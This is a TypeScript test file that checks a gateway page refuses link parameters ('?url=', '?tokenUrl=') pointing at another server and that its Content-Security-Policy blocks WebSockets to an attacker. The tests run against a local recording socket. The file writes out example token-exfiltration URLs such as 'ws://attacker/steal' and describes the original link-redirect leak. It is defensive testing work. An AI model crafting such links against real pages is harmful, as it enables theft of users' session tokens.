/**
 * A link cannot send the page, or its token, elsewhere: the page connects and signs in only where
 * its `config.json` says. `/?url=ws://attacker/steal` used to make it connect to the attacker with
 * its token in the URL and show the attacker's frames. Here the attacker is a real listening socket
 * that records every connection and byte; the page refuses, says why, and sends it nothing. The
 * browser holds the page to those origins too: the gateway's Content-Security-Policy, and the
 * policy the page adds to itself once it has read config.json (on an origin that sends none).
 */
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, createServer, type Socket } from "node:net";
import anyTest, { type TestFn } from "ava";
import type { Browser, Page } from "playwright-core";
import { type LocalGateway, startLocalGateway } from "../../../local/express-server";
import { join, launchBrowser } from "../../support/browser";

const test = anyTest as TestFn<{ browser: Browser }>;

test.before(async (t) => {
  t.context.browser = await launchBrowser();
});

test.after.always(async (t) => {
  await t.context.browser?.close();
});

type Teardown = { teardown(fn: () => Promise<void> | void): void };

/** The attacker's server: a listening TCP socket that records each connection and what it was sent. */
async function attacker(t: Teardown): Promise<{ port: number; connections: number; received: () => string }> {
  const sockets: Socket[] = [];
  const chunks: Buffer[] = [];
  const server = createServer((socket) => {
    sockets.push(socket);
    socket.on("data", (chunk) => chunks.push(chunk));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.teardown(() => {
    for (const socket of sockets) socket.destroy();
    return new Promise<void>((resolve) => server.close(() => resolve()));
  });
  return {
    port: (server.address() as AddressInfo).port,
    get connections() {
      return sockets.length;
    },
    received: () => Buffer.concat(chunks).toString("latin1"),
  };
}

async function guestGateway(t: Teardown): Promise<LocalGateway> {
  const gw = await startLocalGateway({ port: 0, log: () => {}, auth: { mode: "guest" } });
  t.teardown(() => gw.close());
  return gw;
}

async function newPage(t: Teardown & { context: { browser: Browser } }): Promise<Page> {
  const context = await t.context.browser.newContext();
  t.teardown(() => context.close());
  return context.newPage();
}

const origin = (gw: Pick<LocalGateway, "port">) => `http://127.0.0.1:${gw.port}`;
const status = (page: Page) => page.locator("#status-text").textContent();

/** In the page: what a browser has, as far as {@link tryWebSocket} uses it. */
interface PageGlobals {
  document: EventTarget;
  WebSocket: new (url: string) => { onopen: (() => void) | null };
}

/** Whether the browser refuses this page a WebSocket to `url` by its policy: the violation it reports. */
function tryWebSocket(page: Page, url: string): Promise<{ directive: string; blocked: string } | "opened"> {
  return page.evaluate(
    (target) =>
      new Promise((resolve) => {
        const { document, WebSocket } = globalThis as unknown as PageGlobals;
        document.addEventListener(
          "securitypolicyviolation",
          (event) => {
            const violation = event as unknown as { effectiveDirective: string; blockedURI: string };
            resolve({ directive: violation.effectiveDirective, blocked: violation.blockedURI });
          },
          { once: true },
        );
        try {
          new WebSocket(target).onopen = () => resolve("opened");
        } catch {
          // Chromium reports the violation as well as throwing.
        }
      }),
    url,
  );
}

test("a link's ?url= naming another server: the page connects nowhere, sends no token, and says why", async (t) => {
  const gw = await guestGateway(t);
  const evil = await attacker(t);
  const page = await newPage(t);
  const steal = `ws://127.0.0.1:${evil.port}/steal`;
  await page.goto(`${origin(gw)}/?url=${encodeURIComponent(steal)}`);

  await page.locator("#status[data-state=closed]").waitFor();
  t.is(
    await status(page),
    `Not connecting to ws://127.0.0.1:${evil.port}: this page connects only to ws://127.0.0.1:${gw.port}, ` +
      "as its config.json says; the link's ?url= was not followed",
  );
  t.is(await page.inputValue("#url"), gw.url, "the URL field holds the page's own API, not the link's");

  // Typed in by hand, the attacker's URL is refused just the same.
  await page.fill("#url", steal);
  await page.click("#connect");
  await page.locator("#status-text", { hasText: `Not connecting to ws://127.0.0.1:${evil.port}` }).waitFor();

  // Signing in still works, at this gateway alone; by the time it is connected, whatever the page
  // had sent elsewhere would have arrived.
  await page.fill("#url", gw.url);
  await join(page, "Ada");
  await page.locator("#status[data-state=open]", { hasText: "Connected as Ada" }).waitFor();
  t.is(gw.connectionCount(), 1);
  t.is(evil.connections, 0, "nothing connected to the attacker");
  t.is(evil.received(), "");
});

test("a link's ?tokenUrl= naming another server: the name is never sent there, tokens come from the page's own endpoint", async (t) => {
  const gw = await guestGateway(t);
  const evil = await attacker(t);
  const page = await newPage(t);
  await page.goto(`${origin(gw)}/?tokenUrl=${encodeURIComponent(`http://127.0.0.1:${evil.port}/auth/token`)}`);
  await page.locator("#status-text", { hasText: `Not signing in at http://127.0.0.1:${evil.port}` }).waitFor();
  t.regex((await status(page)) ?? "", new RegExp(`gets tokens only at http://127\\.0\\.0\\.1:${gw.port}`));

  await join(page, "Ada");
  await page.locator("#status[data-state=open]", { hasText: "Connected as Ada" }).waitFor();
  t.is(evil.connections, 0);
  t.is(evil.received(), "");
});

test("the gateway serves the page with a policy that lets it connect to this gateway alone, and the browser holds it to that", async (t) => {
  const gw = await startLocalGateway({ port: 0, log: () => {}, auth: { mode: "none" } });
  t.teardown(() => gw.close());
  const evil = await attacker(t);
  const page = await newPage(t);
  const response = await page.goto(`${origin(gw)}/`);
  const policy = (await response?.headerValue("content-security-policy")) ?? "";
  t.true(policy.includes(`connect-src 'self' ws://127.0.0.1:${gw.port};`), policy);
  for (const directive of ["default-src 'self'", "script-src 'self'", "frame-ancestors 'none'", "object-src 'none'"]) {
    t.true(policy.includes(directive), directive);
  }
  await page.locator("#status[data-state=open]").waitFor();

  // Script in the page (the page's own or any that got in) cannot open a socket to the attacker.
  t.deepEqual(await tryWebSocket(page, `ws://127.0.0.1:${evil.port}/steal`), {
    directive: "connect-src",
    blocked: `ws://127.0.0.1:${evil.port}/steal`,
  });
  t.is(evil.connections, 0);
});

test("served by an origin that sends no policy, the page holds itself to config.json's origins once it has read it", async (t) => {
  const evil = await attacker(t);
  // The page's files with a config.json naming the gateway, and no header at all.
  const files = await startLocalGateway({ port: 0, log: () => {}, auth: { mode: "none" } });
  t.teardown(() => files.close());
  let gatewayUrl = "";
  const bare = createHttpServer(async (request, response) => {
    if (request.url === "/config.json") {
      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify({ url: gatewayUrl }));
      return;
    }
    const file = await fetch(`${origin(files)}${request.url}`);
    response.writeHead(file.status, { "content-type": file.headers.get("content-type") ?? "" });
    response.end(Buffer.from(await file.arrayBuffer()));
  });
  await new Promise<void>((resolve) => bare.listen(0, "127.0.0.1", resolve));
  t.teardown(() => new Promise<void>((resolve) => bare.close(() => resolve())));
  const bareOrigin = `http://127.0.0.1:${(bare.address() as AddressInfo).port}`;
  // A page of another origin: the local gateway takes it only when told to (a deployed API checks no Origin).
  const gw = await startLocalGateway({
    port: 0,
    log: () => {},
    auth: { mode: "none" },
    servePage: false,
    allowedOrigins: [bareOrigin],
  });
  t.teardown(() => gw.close());
  gatewayUrl = gw.url;
  const page = await newPage(t);
  await page.goto(`${bareOrigin}/`);
  await page.locator("#status[data-state=open]").waitFor();
  t.is(gw.connectionCount(), 1);

  t.deepEqual(await tryWebSocket(page, `ws://127.0.0.1:${evil.port}/steal`), {
    directive: "connect-src",
    blocked: `ws://127.0.0.1:${evil.port}/steal`,
  });
  t.is(evil.connections, 0);
});
